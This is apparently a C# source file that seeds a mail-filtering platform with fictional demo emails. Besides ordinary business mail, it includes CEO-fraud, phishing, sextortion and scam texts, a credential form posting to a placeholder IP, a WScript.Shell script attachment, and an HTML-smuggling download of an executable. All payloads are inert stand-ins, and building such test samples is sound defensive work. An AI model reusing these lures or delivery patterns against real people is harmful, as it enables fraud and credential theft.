using System.IO.Compression;
using System.Text;

namespace Platform.Api.Demo;

/// <summary>Two dozen mails from many countries, so that no screen of a first start is empty. All names are made up.</summary>
internal static class DemoMails
{
    private const string Acme = "acme.test";
    private const string Globex = "globex.test";

    public static IReadOnlyList<DemoMail> All { get; } = [.. Ordinary(), .. Unwanted(), .. Impersonation(), .. Phishing(), .. Malware()];

    private static IEnumerable<DemoMail> Ordinary() =>
    [
        new("202.12.27.33", "mail.kitamura-seiki.test", "北村 由美", "kitamura@kitamura-seiki.test", Acme, ["sales"], "お見積りのお願い(型番 KS-220)",
            "アクメ株式会社 営業部 御中\n\nいつもお世話になっております。北村精機の北村です。\n型番 KS-220 を 40 台、12 月中旬納期でお見積りいただけますでしょうか。\n\nどうぞよろしくお願いいたします。\n北村 由美\n"),
        new("194.25.0.60", "mx1.brenner-logistik.test", "Jonas Brenner", "j.brenner@brenner-logistik.test", Acme, ["info"], "Pickup on Thursday, dock 4",
            "Hello,\n\nour driver arrives on Thursday between 9 and 10 at dock 4. The pallets are 120 x 80 cm as agreed.\n\nKind regards\nJonas Brenner\n"),
        new("168.126.63.1", "out.hansol-parts.test", "김지현", "jihyun@hansol-parts.test", Acme, ["sales"], "샘플 수령 확인",
            "안녕하세요, 한솔부품 김지현입니다.\n보내주신 샘플을 잘 받았습니다. 다음 주에 검토 결과를 보내 드리겠습니다.\n감사합니다.\n"),
        new("212.58.244.20", "smtp.northgate.test", "Emily Carter", "emily.carter@northgate.test", Globex, ["info", "sales"], "Minutes of today's call",
            "Hi both,\n\nplease find below what we agreed on today: delivery in week 49, a second sample in January, and the contact for customs questions stays with me.\n\nBest,\nEmily\n") { AnswersEarlierMail = true },
        new("80.67.169.12", "relais.ateliers-moreau.test", "Claire Moreau", "claire@ateliers-moreau.test", Globex, ["sales"], "Photos du prototype",
            "Bonjour,\n\nvoici comme convenu la photo du prototype. Dites-nous si la teinte convient.\n\nBien à vous,\nClaire Moreau\n") { Attachment = ("prototype.png", "image/png", OnePixelPng()) },
        new("200.160.2.3", "mail.rioverde.test", "Rafael Souza", "rafael@rioverde.test", Globex, ["keiri"], "Re: Confirmação do pedido 4471",
            "Prezados,\n\nconfirmamos o pedido 4471. A entrega está prevista para sexta-feira.\n\nAtenciosamente,\nRafael Souza\n") { AnswersEarlierMail = true },
        new("145.97.1.10", "mta.vandijk-instruments.test", "Sanne van Dijk", "sanne@vandijk-instruments.test", Acme, ["info"], "Calibration certificates",
            "Dear colleagues,\n\nthe calibration of your three gauges is done; the parcel left today.\n\nSanne van Dijk\n"),
    ];

    private static IEnumerable<DemoMail> Unwanted() =>
    [
        new("149.72.10.20", "o1.news.gardenweekly.test", "Garden Weekly", "news@news.gardenweekly.test", Acme, ["info"], "Five plants that love November",
            "Five plants that love November.\n\nYou get this letter because you signed up at gardenweekly.test.\nUnsubscribe: https://gardenweekly.test/u/81\n")
            { ListUnsubscribe = "https://gardenweekly.test/u/81" },
        new("203.113.127.199", "host7.bulk-offers.test", "Best Price Pharmacy", "offer@bulk-offers.test", Acme, ["sales"], "LAST CHANCE: cheap pills, no prescription, 90% OFF!!!",
            "Buy now! Cheap pills without prescription, 90% discount, limited time offer, click here: http://bulk-offers.test/buy\n"),
        new("114.114.114.114", "smtp3.lucky-draw.test", "Lucky Draw", "winner@lucky-draw.test", Globex, ["info"], "Congratulations! You have won the lottery",
            "Congratulations! Your address won 850,000 USD in our international lottery. To claim your prize send your full name, address and bank details to claims.office@freemail.test today.\n")
            { ReplyTo = "claims.office@freemail.test" },
    ];

    private static IEnumerable<DemoMail> Impersonation() =>
    [
        new("41.58.10.20", "vps-2210.cheap-cloud.test", "佐藤 健一(代表取締役)", "ceo.office.sato@freemail.test", Acme, ["keiri"], "至急:本日中の振込のお願い",
            "経理ご担当者様\n\n会議中のため電話に出られません。極秘の案件で、本日中に下記口座へ 4,850,000 円の振込をお願いします。\n振込先が変更になりました。新しい口座はこのメールへの返信でお知らせします。\n他の方には口外しないでください。\n\n佐藤\n")
            { ReplyTo = "sato.ceo.private@freemail-box.test" },
        new("91.198.36.14", "mail.acrne.test", "Acme Sales", "sales@acrne.test", Acme, ["keiri", "info"], "Re: Invoice 20261107 - changed bank details",
            "Dear accounting team,\n\nour bank account has changed. Please transfer the open amount of invoice 20261107 to the new account today and confirm the payment by return mail. It is urgent.\n\nAcme Sales\n"),
        new("202.134.0.155", "srv.globex-support.test", "Globex IT Support", "support@globex-support.test", Globex, ["sales"], "Your mailbox is almost full",
            "Your mailbox storage is almost full. Verify your account within 24 hours or it will be suspended.\n")
            { Html = "<p>Your mailbox storage is almost full. <b>Verify your account within 24 hours</b> or it will be suspended.</p><p><a href=\"http://203.0.113.77/globex/login.php\">https://mail.globex.test/verify</a></p>" },
        new("187.188.10.5", "webmail.info-mx.test", "info@acme.test", "postmaster@info-mx.test", Acme, ["info"], "Scan from Office Printer",
            "A document was scanned and sent to you. Sign in to view it: http://198.51.100.23/view?id=info@acme.test\n"),
    ];

    private static IEnumerable<DemoMail> Phishing() =>
    [
        new("115.79.30.4", "mail.sagawa-notice.test", "宅配便お届け通知", "notice@sagawa-notice.test", Acme, ["info"], "【重要】お荷物のお届けにあがりましたが不在のため持ち帰りました",
            "お客様のお荷物をお届けにあがりましたが、宛先不明のため持ち帰りました。\n24 時間以内に下記よりお届け先住所をご確認ください。確認されない場合、荷物は返送されます。\nhttp://xn--80ak6aa92e.test/track\n"),
        new("77.88.40.9", "mx.secure-login-center.test", "Account Security", "no-reply@secure-login-center.test", Acme, ["sales"], "Unusual sign-in: your password expires today",
            "We noticed an unusual sign-in. Your password expires today. Confirm your password now or your account will be suspended.\n")
            { Html = "<p>We noticed an unusual sign-in. Your password expires today. Confirm your password now or your account will be suspended.</p><form action=\"http://203.0.113.9/collect.php\" method=\"post\"><input name=\"email\"><input type=\"password\" name=\"pass\"><button>Sign in</button></form>" },
        new("195.175.39.39", "smtp.inbox-holding.test", "Unknown", "x771@inbox-holding.test", Globex, ["info"], "I recorded you",
            "I have hacked your device and recorded a video of you through your webcam. Send 1,200 USD in bitcoin to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT within 48 hours or I send the video to all your contacts. Do not tell anyone.\n"),
        new("41.203.64.10", "mail.trust-fund-office.test", "Barrister James Okoye", "james.okoye@trust-fund-office.test", Globex, ["keiri"], "Confidential: inheritance of USD 12.5 million",
            "Dear friend,\n\nI am the lawyer of a late client who left an inheritance of 12.5 million US dollars without next of kin. I need your assistance as beneficiary to transfer the funds; you receive 40 percent. Please reply with your bank details and a copy of your passport. Keep this confidential.\n")
            { ReplyTo = "barrister.okoye@freemail.test" },
        new("189.203.10.4", "out.billing-desk.test", "Renewal Department", "billing@billing-desk.test", Globex, ["sales"], "Your subscription was renewed: 399.99 USD",
            "Thank you. Your antivirus subscription was renewed for 399.99 USD and will be charged to your account today. If you did not authorise this payment, call our refund department at +1 (888) 555-0142 within 24 hours to cancel.\n"),
        new("103.28.12.7", "mail.e-tax-refund.test", "国税庁 還付金係", "refund@e-tax-refund.test", Globex, ["keiri"], "【国税庁】還付金のお知らせ(未受領)",
            "還付金 38,200 円が未受領です。本日中に下記のページで本人確認と口座情報の登録を行ってください。期限を過ぎると無効になります。\nhttp://e-tax-refund.test/login\n"),
    ];

    private static IEnumerable<DemoMail> Malware() =>
    [
        new("91.92.240.10", "mail.invoice-center.test", "Accounts", "billing@invoice-center.test", Acme, ["keiri", "sales"], "Overdue invoice 88120",
            "Please see the attached invoice. Payment is overdue.\n") { Attachment = ("invoice_88120.pdf.js", "application/octet-stream", Encoding.ASCII.GetBytes("var shell = new ActiveXObject('WScript.Shell');\r\nshell.Run('calc.exe');\r\n")) },
        new("5.188.10.20", "smtp.docs-transfer.test", "Document Transfer", "share@docs-transfer.test", Acme, ["info"], "Contract for signature",
            "The contract is attached. The archive password is 2026.\n") { Attachment = ("contract.zip", "application/zip", Zip("contract.exe", [0x4D, 0x5A, .. new byte[510]])) },
        new("218.92.0.20", "mx.test-file.test", "AV test", "tester@test-file.test", Globex, ["info"], "Antivirus test file",
            "Attached is the standard antivirus test file.\n") { Attachment = ("test.zip", "application/zip", Zip("eicar.com", AntivirusTestFile())) },
        new("217.218.40.4", "relay.page-delivery.test", "Voice Message", "voice@page-delivery.test", Globex, ["sales"], "New voice message (0:42)",
            "You have a new voice message. Open the attachment to listen.\n")
            {
                Attachment = ("voice_message.html", "text/html", Encoding.ASCII.GetBytes(
                    "<html><script>var d=atob('TVqQAAMAAAAEAAAA');var b=new Blob([d]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='voice.exe';a.click();</script></html>")),
            },
    ];

    /// <summary>The EICAR test string, joined here so that no scanner mistakes this source or its assembly for it.</summary>
    private static byte[] AntivirusTestFile() =>
        Encoding.ASCII.GetBytes(string.Concat(@"X5O!P%@AP[4\PZX54(P^)7CC)7}", "$EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!", "$H+H*"));

    private static byte[] OnePixelPng() =>
        Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=");

    private static byte[] Zip(string name, byte[] content)
    {
        using var stream = new MemoryStream();
        using (var archive = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        using (var entry = archive.CreateEntry(name).Open())
            entry.Write(content);
        return stream.ToArray();
    }
}
